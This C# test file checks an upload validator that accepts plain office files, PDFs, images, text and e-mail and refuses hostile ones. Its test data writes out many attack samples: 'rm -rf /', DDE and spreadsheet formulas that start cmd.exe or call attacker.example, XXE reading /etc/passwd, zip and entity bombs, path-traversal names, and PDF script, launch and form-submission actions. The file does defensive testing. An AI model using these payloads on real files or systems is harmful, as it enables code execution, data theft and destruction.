using System.IO.Compression;
using System.Text;
using Microsoft.Extensions.Logging.Abstractions;
using Nscp.Documents;
using Nscp.Kernel;

namespace Nscp.Shared.Tests;

/// <summary>What is taken in, and each attack by a file that is not.</summary>
public sealed class UploadTests
{
    private static readonly UploadSettings Settings = new UploadSettings { MaximumMegabytes = 5 }.Checked();

    private static Task<Result<AcceptedFile>> Accept(string name, byte[] content, UploadSettings? settings = null, params IVirusScanner[] scanners) =>
        new UploadCheck(settings ?? Settings, scanners, NullLogger<UploadCheck>.Instance).Accept(new UploadedFile(name, "application/octet-stream", content), default, "evidence");

    private static async Task<AcceptedFile> Accepted(string name, byte[] content)
    {
        var answer = await Accept(name, content);
        answer.Failure.ShouldBeNull((answer.Failure as InvalidFailure)?.Errors[0].Message);
        return answer.Value;
    }

    private static async Task Refused(string name, byte[] content, string because, UploadSettings? settings = null)
    {
        var error = (await Accept(name, content, settings)).Failure.ShouldBeOfType<InvalidFailure>().Errors.ShouldHaveSingleItem();
        error.Field.ShouldBe("evidence");
        error.Message.ShouldContain(because);
    }

    public static TheoryData<string, byte[], string> Honest => new()
    {
        { "report.docx", Attacks.Office(), NewDocument.Word },
        { "our own.docx", OurOwn(), NewDocument.Word },
        { "with a printer.xlsx", Attacks.Office(Attacks.Excel, parts: ("xl/printerSettings/printerSettings1.bin", "A4")), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet" },
        { "figures.xlsx", Attacks.Office(Attacks.Excel), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet" },
        { "slides.pptx", Attacks.Office(Attacks.Powerpoint), "application/vnd.openxmlformats-officedocument.presentationml.presentation" },
        { "letter.pdf", Attacks.Pdf("3 0 obj\n<< /S /URI /URI (https://example.org/JavaScript-and-Launch) >>\nendobj"), "application/pdf" },
        { "letter.pdf", Attacks.PackedPdf("1 0 << /Type /Catalog >>"), "application/pdf" },
        { "letter.pdf", Attacks.PackedPdf("", "/Type /ObjStm /N 0 /First 0", pack: false), "application/pdf" },
        { "photo.png", Attacks.Png, "image/png" },
        { "photo.jpeg", Attacks.Jpeg, "image/jpeg" },
        { "photo.heic", Attacks.Heic, "image/heic" },
        { "notes.txt", Attacks.Text("Visited at 3 < 4 o’clock\nNobody was in"), "text/plain" },
        { "old notes.txt", Encoding.Latin1.GetBytes("A caf\u00e9 on the corner"), "text/plain" },
        { "notes.txt", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes("Words")], "text/plain" },
        { "list.csv", Attacks.Text("name,telephone,change,remark\nA,+44 (0)1632 960123,-5.50,\"He said, -and = that\"\nB,01632 960124,- ,- a dash"), "text/csv" },
        { "mail.eml", Attacks.Text("From: a@example.org\nTo: b@example.org\nSubject: Visit\n\nWe called today.\n"), "message/rfc822" },
    };

    /// <summary>What this product wrote, somebody sends back unchanged.</summary>
    private static byte[] OurOwn()
    {
        var to = new MemoryStream();
        WordWriter.Write(new DocumentContent("A report", null, "Partnership", "Child A", ProtectiveMarkings.OfficialSensitive, new DateOnly(2026, 7, 6), [new Heading(1, "Summary"), new Paragraph("Words.")]), to);
        return to.ToArray();
    }

    [Theory, MemberData(nameof(Honest))]
    public async Task An_honest_file_is_taken_in_as_it_is(string name, byte[] content, string mediaType)
    {
        var file = await Accepted(name, content);

        file.FileName.ShouldBe(name);
        file.MediaType.ShouldBe(mediaType);
        file.Content.ShouldBe(content);
        file.Sha256.ShouldBe(new UploadedFile(name, "", content).Sha256);
        file.Notes.ShouldBeEmpty();
    }

    public static TheoryData<string, byte[], string> NotTakenIn => new()
    {
        { "nothing.pdf", [], "empty" },
        { "large.txt", Attacks.Text(new string('a', 5 * 1024 * 1024 + 1)), "at most 5 MB" },
        { "letter.pdf", Attacks.Program, "is a program" },
        { "letter.txt", Attacks.Text("#!/bin/sh\nrm -rf /"), "is a program" },
        { "letter.docx", Attacks.Compound, "protected by a password" },
        { "letter.doc", Attacks.Compound, "older form of Office" },
        { "mail.msg", Attacks.Compound, "Save it as .eml" },
        { "files.zip", Attacks.Zip([("a.txt", "a")]), "Unpack it" },
        { "letter.rtf", Attacks.Text(@"{\rtf1 words}"), "rich text" },
        { "photo.gif", Attacks.Text("GIF89a...."), "PNG or JPEG" },
        { "page.html", Attacks.Text("<!DOCTYPE html><p>Words"), "web page" },
        { "page.txt", Attacks.Text("Words <script>alert(1)</script>"), "web page" },
        { "picture.svg", Attacks.Text("""<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>"""), "web page" },
        { "run.js", Attacks.Text("alert(1)"), "ends in .js" },
        { "letter.docx", Attacks.Text("only words"), "ends in .docx" },
        { "unknown.bin", [1, 2, 3, 0, 0, 4], "not taken in" },
    };

    [Theory, MemberData(nameof(NotTakenIn))]
    public Task Other_kinds_are_refused_with_what_to_do(string name, byte[] content, string because) => Refused(name, content, because);

    [Fact]
    public async Task The_content_decides_what_a_file_is()
    {
        var file = await Accepted("C:\\Users\\somebody\\photo of the kitchen.docx", Attacks.Jpeg);

        file.FileName.ShouldBe("photo of the kitchen.jpg");
        file.Extension.ShouldBe(".jpg");
        file.MediaType.ShouldBe("image/jpeg");
        file.Notes.ShouldHaveSingleItem().ShouldContain(".jpg");
    }

    [Theory]
    [InlineData("../../etc/passwd", "passwd.pdf")]
    [InlineData("..\\..\\Windows\\system.ini.pdf", "system.ini.pdf")]
    [InlineData("letter\u202Efdp.exe", "letterfdp.pdf")]
    [InlineData("a\0b\nc.pdf", "abc.pdf")]
    [InlineData("CON.pdf", "file CON.pdf")]
    [InlineData("what? \"this\" <is>: it.pdf", "what- -this- -is-- it.pdf")]
    [InlineData("   .pdf", "file.pdf")]
    [InlineData("", "file.pdf")]
    public async Task A_name_is_cleaned(string name, string cleaned) => (await Accepted(name, Attacks.Pdf())).FileName.ShouldBe(cleaned);

    [Fact]
    public async Task A_long_name_is_shortened_and_keeps_its_end() =>
        (await Accepted(new string('n', 300) + ".pdf", Attacks.Pdf())).FileName.ShouldBe(new string('n', 116) + ".pdf");

    public static TheoryData<string, byte[], string> InOffice => new()
    {
        { "a template", Attacks.Office("application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"), "not as a template" },
        { "macros by type", Attacks.Office("application/vnd.ms-word.document.macroEnabled.main+xml"), "macros" },
        { "macros by part", Attacks.Office(types: """<Override PartName="/x.bin" ContentType="application/vnd.ms-office.vbaProject"/>"""), "macros" },
        { "macros by relation", Attacks.Office(parts: ("word/_rels/document.xml.rels", Attacks.Relations(("vbaProject", "harmless.xml", null)))), "macros" },
        { "macros that nothing points at", Attacks.Office(parts: ("word/vbaProject.bin", "Attribut\0e VB_Name")), "macros" },
        { "macros under a path of their own", Attacks.Office(parts: ("docProps/x/VBAPROJECT1.BIN", "VB")), "macros" },
        { "macros' data", Attacks.Office(parts: ("word/vbaData.xml", "<vbaSuppData/>")), "macros" },
        { "an OLE object that nothing points at", Attacks.Office(parts: ("word/embeddings/oleObject1.bin", "OLE")), "built into it" },
        { "a control that nothing points at", Attacks.Office(parts: ("word/activeX/activeX1.bin", "control")), "built into it" },
        { "a binary of no known use", Attacks.Office(parts: ("word/harmless.bin", "words")), "built into it" },
        { "an OLE object under the name of a picture", Attacks.Office([("word/media/image1.png", Attacks.Compound)]), "built into it" },
        { "an OLE object under the name of printer settings", Attacks.Office([("word/printerSettings/printerSettings1.bin", Attacks.Compound)]), "built into it" },
        { "an OLE object under the name of a part", Attacks.Office([("word/other.xml", Attacks.Compound)]), "built into it" },
        { "old Excel macros", Attacks.Office(Attacks.Excel, """<Override PartName="/xl/macrosheets/sheet1.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>"""), "macros" },
        { "an OLE object by relation", Attacks.Office(parts: ("word/_rels/document.xml.rels", Attacks.Relations(("oleObject", "embeddings/object1.bin", null)))), "built into it" },
        { "an ActiveX control", Attacks.Office(types: """<Override PartName="/word/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>"""), "built into it" },
        { "a program in a part", Attacks.Office(parts: ("word/embeddings/run.exe", "MZ")), "built into it" },
        { "a web page in a part", Attacks.Office(parts: ("word/afchunk.mht", "MIME-Version: 1.0")), "web page built into it" },
        { "a web page by relation", Attacks.Office(parts: ("word/_rels/document.xml.rels", Attacks.Relations(("aFChunk", "chunk.xml", null)))), "web page built into it" },
        { "a script in a drawing", Attacks.Office(parts: ("word/media/image1.svg", """<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>""")), "built into it" },
        { "a picture from elsewhere", Attacks.Office(parts: ("word/_rels/document.xml.rels", Attacks.Relations(("image", "https://attacker.example/pixel.png", "External")))), "fetches parts" },
        { "an external target without its mode", Attacks.Office(parts: ("word/_rels/document.xml.rels", Attacks.Relations(("image", "file://attacker.example/share/x.png", null)))), "fetches parts" },
        { "a link to another workbook", Attacks.Office(Attacks.Excel, parts: ("xl/externalLinks/_rels/externalLink1.xml.rels", Attacks.Relations(("externalLinkPath", "file:///c:/x.xlsx", "External")))), "fetches parts" },
        { "a data connection", Attacks.Office(Attacks.Excel, parts: ("xl/_rels/workbook.xml.rels", Attacks.Relations(("connections", "connections.xml", null)))), "fetches parts" },
        { "a frame", Attacks.Office(parts: ("word/_rels/webSettings.xml.rels", Attacks.Relations(("frame", "https://attacker.example/", "External")))), "fetches parts" },
        { "a DDE field", Attacks.Office(body: """<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDEA</w:instrText><w:instrText>UTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText><w:fldChar w:fldCharType="end"/></w:r>"""), "starts programs" },
        { "a simple DDE field", Attacks.Office(body: """<w:fldSimple w:instr="DDE cmd x"/>"""), "starts programs" },
        { "a formula that starts a program", Attacks.Office(Attacks.Excel, parts: ("xl/worksheets/sheet1.xml", "<worksheet><c><f>cmd|'/C calc'!A0</f></c></worksheet>")), "starts programs" },
        { "a formula that fetches", Attacks.Office(Attacks.Excel, parts: ("xl/worksheets/sheet1.xml", "<worksheet><c><f>WEBSERVICE(&quot;https://attacker.example&quot;)</f></c></worksheet>")), "starts programs" },
        { "an action of a slide", Attacks.Office(Attacks.Powerpoint, parts: ("ppt/slides/slide1.xml", """<p><hlinkClick action="ppaction://program"/></p>""")), "starts programs" },
        { "XXE", Attacks.Office(parts: ("word/settings.xml", """<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>""")), "could make a program read other files" },
        { "a billion laughs", Attacks.Office(parts: ("word/settings.xml", """<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>""")), "could make a program read other files" },
        { "XXE in the list of types", Attacks.Zip([("[Content_Types].xml", """<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><Types>&e;</Types>""")]), "could make a program read other files" },
        { "a path that leads out", Attacks.Office(parts: ("../../evil.xml", "<x/>")), "lead out of it" },
        { "a path with a drive", Attacks.Office(parts: ("C:/evil.xml", "<x/>")), "lead out of it" },
        { "one name twice", Attacks.Office(parts: [("word/x.xml", "<x/>"), ("WORD/X.xml", "<y/>")]), "can be kept" },
        { "a damaged archive", [.. Attacks.Office().AsSpan(0, 60)], "damaged" },
        { "a zip bomb", Attacks.Bomb(megabytes: 60), "far more than its size" },
    };

    [Theory, MemberData(nameof(InOffice))]
    public async Task What_runs_or_fetches_in_office_files_is_refused(string attack, byte[] content, string because)
    {
        content.Length.ShouldBeLessThan(1024 * 1024, attack);
        await Refused("report.docx", content, because);
    }

    [Fact]
    public async Task What_a_document_in_a_document_does_counts()
    {
        var chart = Attacks.Office(Attacks.Excel, parts: ("xl/worksheets/sheet1.xml", "<worksheet><c><f>SUM(A1:A3)</f></c></worksheet>"));
        await Accepted("report.docx", With(chart));
        await Refused("report.docx", With(Attacks.Office("application/vnd.ms-excel.sheet.macroEnabled.main+xml")), "A file inside this document holds macros");
        await Refused("report.docx", With(With(With(With(With(Attacks.Office()))))), "files in files");

        static byte[] With(byte[] inner)
        {
            using var bytes = new MemoryStream();
            bytes.Write(Attacks.Office());
            using (var archive = new ZipArchive(bytes, ZipArchiveMode.Update, leaveOpen: true))
            {
                using var part = archive.CreateEntry("word/embeddings/figures.xlsx").Open();
                part.Write(inner);
            }

            return bytes.ToArray();
        }
    }

    [Fact]
    public async Task Links_to_a_template_and_to_files_are_taken_out_and_the_sender_is_told()
    {
        var sent = Attacks.Office(parts:
        [
            ("word/settings.xml", """<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:zoom w:percent="100"/><w:attachedTemplate r:id="rId1"/></w:settings>"""),
            ("word/_rels/settings.xml.rels", Attacks.Relations(("attachedTemplate", "https://attacker.example/evil.dotm", "External"))),
            ("word/_rels/document.xml.rels", Attacks.Relations(("hyperlink", "https://www.gov.uk/", "External"), ("hyperlink", "file://attacker.example/share/x.lnk", "External"), ("image", "media/image1.png", null))),
        ]);

        var file = await Accepted("report.docx", sent);

        file.Notes.Count.ShouldBe(2);
        file.Notes.ShouldContain(n => n.Contains("template", StringComparison.Ordinal));
        using var archive = new ZipArchive(new MemoryStream(file.Content));
        Read("word/settings.xml").ShouldContain("zoom");
        Read("word/settings.xml").ShouldNotContain("attachedTemplate");
        Read("word/_rels/settings.xml.rels").ShouldNotContain("attacker");
        Read("word/_rels/document.xml.rels").ShouldNotContain("attacker");
        Read("word/_rels/document.xml.rels").ShouldContain("https://www.gov.uk/");
        (await Accept("report.docx", file.Content)).Value.Notes.ShouldBeEmpty();

        string Read(string part) => new StreamReader(archive.GetEntry(part)!.Open()).ReadToEnd();
    }

    public static TheoryData<string, byte[], string> InPdf => new()
    {
        { "a script", Attacks.Pdf("3 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj"), "holds a script" },
        { "a script whose name is disguised", Attacks.Pdf("3 0 obj\n<< /S /J#61va#53cript /JS (x) >>\nendobj"), "holds a script" },
        { "a program to start", Attacks.Pdf("3 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj"), "starts programs" },
        { "a file in it", Attacks.Pdf("3 0 obj\n<< /Names << /EmbeddedFiles 4 0 R >> >>\nendobj"), "has other files in it" },
        { "a form that is sent", Attacks.Pdf("3 0 obj\n<< /S/SubmitForm/F(https://attacker.example) >>\nendobj"), "sends what is typed" },
        { "another file to open", Attacks.Pdf("3 0 obj\n<< /S /GoToR /F (\\\\\\\\attacker\\\\x) >>\nendobj"), "opens other files" },
        { "a form of its own", Attacks.Pdf("3 0 obj\n<< /AcroForm << /XFA 9 0 R >> >>\nendobj"), "can run programs" },
        { "a script in packed objects", Attacks.PackedPdf("3 0 << /S /JavaScript /JS (x) >>"), "holds a script" },
        { "a script behind a stream that only looks like one", Attacks.Pdf("3 0 obj\n<< /Length 9 >>\nstream\n4 0 obj << /S /JavaScript >> endobj\nendstream\nendobj"), "holds a script" },
        { "objects packed in another way", Attacks.PackedPdf("", "/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode", pack: false), "cannot be looked into" },
        { "a password", Attacks.Pdf("3 0 obj\n<< /Encrypt 5 0 R >>\nendobj"), "protected" },
        { "a bomb", Attacks.PackedPdf(new string(' ', 60 * 1024 * 1024)), "far more than its size" },
    };

    [Theory, MemberData(nameof(InPdf))]
    public async Task What_runs_or_hides_in_a_pdf_is_refused(string attack, byte[] content, string because)
    {
        content.Length.ShouldBeLessThan(1024 * 1024, attack);
        await Refused("letter.pdf", content, because);
    }

    [Theory]
    [InlineData("name,sum\nA,=1+1", "Row 2")]
    [InlineData("name;sum\nA;\"=HYPERLINK(\"\"https://attacker.example\"\";\"\"x\"\")\"", "Row 2")]
    [InlineData("-1+cmd|'/C calc'!A0", "Row 1")]
    [InlineData("a\tb\nc\t@SUM(1)", "Row 2")]
    public Task A_formula_in_a_csv_file_is_refused(string text, string because) => Refused("list.csv", Attacks.Text(text), because);

    [Theory]
    [InlineData("run.js", "YWxlcnQoMSk=", "ends in .js")]
    [InlineData("page.html", "PGh0bWw+PHNjcmlwdD4=", "web page")]
    public Task What_is_attached_to_an_e_mail_must_be_fit_to_be_kept(string name, string base64, string because) => Refused("mail.eml", Mail(name, base64), because);

    [Fact]
    public async Task An_e_mail_may_carry_pictures_documents_and_another_e_mail()
    {
        await Accepted("mail.eml", Mail("letter.pdf", Convert.ToBase64String(Attacks.Pdf())));
        await Accepted("mail.eml", Mail("logo.gif", Convert.ToBase64String("GIF89a....."u8)));
        await Refused("mail.eml", Mail("report.docx", Convert.ToBase64String(Attacks.Office("application/vnd.ms-word.document.macroEnabled.main+xml"))), "macros");
        await Refused("mail.eml", Mail("bomb.docx", Convert.ToBase64String(Attacks.Bomb(60))), "far more than its size");
        await Refused("notes.eml", Attacks.Text("Just words"), "no e-mail");
        await Refused("mail.eml", Attacks.Text("From: a@example.org\nContent-Type: message/rfc822\n\nFrom: b@example.org\nContent-Type: application/octet-stream; name=run.js\nContent-Disposition: attachment; filename=run.js\n\nalert(1)\n"), "ends in .js");
    }

    private static byte[] Mail(string name, string base64) => Attacks.Text($"""
        From: a@example.org
        Subject: Papers
        MIME-Version: 1.0
        Content-Type: multipart/mixed; boundary=cut

        --cut
        Content-Type: text/html

        <html><body>As promised.</body></html>
        --cut
        Content-Type: application/octet-stream; name="{name}"
        Content-Disposition: attachment; filename="{name}"
        Content-Transfer-Encoding: base64

        {base64}
        --cut--
        """);

    [Fact]
    public async Task Only_the_kinds_that_the_settings_name_are_taken_in()
    {
        var settings = new UploadSettings { Kinds = ["pdf", "docx"] }.Checked();
        await Refused("photo.png", Attacks.Png, "Word or PDF", settings);
        (await Accept("letter.pdf", Attacks.Pdf(), settings)).Failure.ShouldBeNull();
        Should.Throw<InvalidOperationException>(() => new UploadSettings { Kinds = ["exe"] }.Checked()).Message.ShouldContain("“exe”");
        Should.Throw<InvalidOperationException>(() => new UploadSettings { MaximumMegabytes = 0 }.Checked()).Message.ShouldContain("1 to 100");
    }

    [Fact]
    public async Task A_file_that_is_needed_is_asked_for() =>
        (await new UploadCheck(Settings, [], NullLogger<UploadCheck>.Instance).Accept(null, default)).Failure.ShouldBeOfType<InvalidFailure>().Errors[0].ShouldBe(new FieldError("file", "Choose a file"));
}
